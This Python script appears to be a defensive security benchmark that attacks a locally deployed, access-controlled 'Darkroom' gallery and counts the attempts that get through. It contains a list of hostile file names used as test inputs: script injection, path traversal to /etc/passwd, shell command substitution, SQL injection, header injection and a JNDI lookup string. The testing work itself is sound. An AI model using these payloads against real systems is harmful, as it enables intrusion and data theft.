"""Attacks a closed Darkroom on the local engine, which enforces IAM, and counts the attempts that get in.

    python -m bench.attempts [--names FILE] [--examples 60] [--only KIND...]

`--names` is a JSON list of hostile strings, which become file names; the default is a short list. Writes
bench/results/attempts.md. Ends with an error if anything got in or any answer was a 5xx.
"""

import argparse
import json
import platform
import sys
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from bench.attempts_at_aws import at_aws, forged_events, with_the_roles_of_functions
from bench.attempts_by_name import hostile_names
from bench.attempts_over_http import (
    Closed,
    Count,
    altered_receipts,
    altered_tickets,
    files_at_the_door,
    fuzzed_requests,
    with_a_lower_role,
    with_invalid_invitations,
    without_an_invitation,
)
from tests.support.deployed import deployed

RESULT = Path(__file__).parent / "results" / "attempts.md"
PARAMETERS = {"ViewAccess": "invited", "UploadAccess": "invited"}
NAMES = (
    '"><script>alert(1)</script>.jpg',
    "{{ 7*7 }}.jpg",
    "../../etc/passwd.jpg",
    "$(touch pwned).jpg",
    "\u202egpj.exe",
    "\u200b.jpg",
    "\u2800.jpg",
    "\x1b[2J\x1b[31mred.jpg",
    "a\r\nset-cookie: b=c.jpg",
    "👩\u200d👩\u200d👧.jpg",
    "مرحبا.jpg",
    "'; DROP TABLE pictures; --.jpg",
    "%00.jpg",
    "${jndi:ldap://example.invalid/a}.jpg",
)
QUICK_KINDS: tuple[Callable[[Closed], Count], ...] = (
    without_an_invitation,
    with_invalid_invitations,
    with_a_lower_role,
    altered_tickets,
    altered_receipts,
    files_at_the_door,
    at_aws,
    with_the_roles_of_functions,
)
# The order matters: the hostile names fill the gallery that the fuzzed requests then read.
KINDS = (*QUICK_KINDS, forged_events, hostile_names, fuzzed_requests)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--names", type=Path)
    parser.add_argument("--examples", type=int, default=60, help="fuzzed requests for each route and role")
    parser.add_argument("--only", nargs="*", metavar="KIND", help="names of functions; writes no result")
    options = parser.parse_args()
    names = json.loads(options.names.read_text()) if options.names else NAMES
    with tempfile.TemporaryDirectory() as folder, deployed(Path(folder), PARAMETERS) as stack:
        closed = Closed(stack, list(names), options.examples)
        counts = []
        for kind in KINDS:
            if options.only and kind.__name__ not in options.only:
                continue
            counts.append(kind(closed))
            print(counts[-1].row(), *counts[-1].got_in, *counts[-1].errors, sep="\n", file=sys.stderr, flush=True)
    text = "\n".join(
        [
            "# Attempts to get in",
            "",
            f"{datetime.now(UTC):%Y-%m-%d}, {platform.machine()}, `python -m bench.attempts`, {len(names)} hostile",
            "names. A closed Darkroom (`ViewAccess` and `UploadAccess` are `invited`) on the local engine, which",
            "enforces IAM.",
            "",
            "An attempt got in if the answer or the buckets show its intended effect.",
            "Allowed requests do no harm, such as a request for a ticket for a file with a hostile name.",
            "",
            "| attempts | tried | refused | allowed | got in | 5xx |",
            "|---|---:|---:|---:|---:|---:|",
            *(count.row() for count in counts),
            Count.total(counts).row(),
            "",
        ]
    )
    if not options.only:
        RESULT.write_text(text, encoding="utf-8")
    print(text)
    if failures := [failure for count in counts for failure in count.got_in + count.errors]:
        sys.exit("\n".join(failures))


if __name__ == "__main__":
    main()
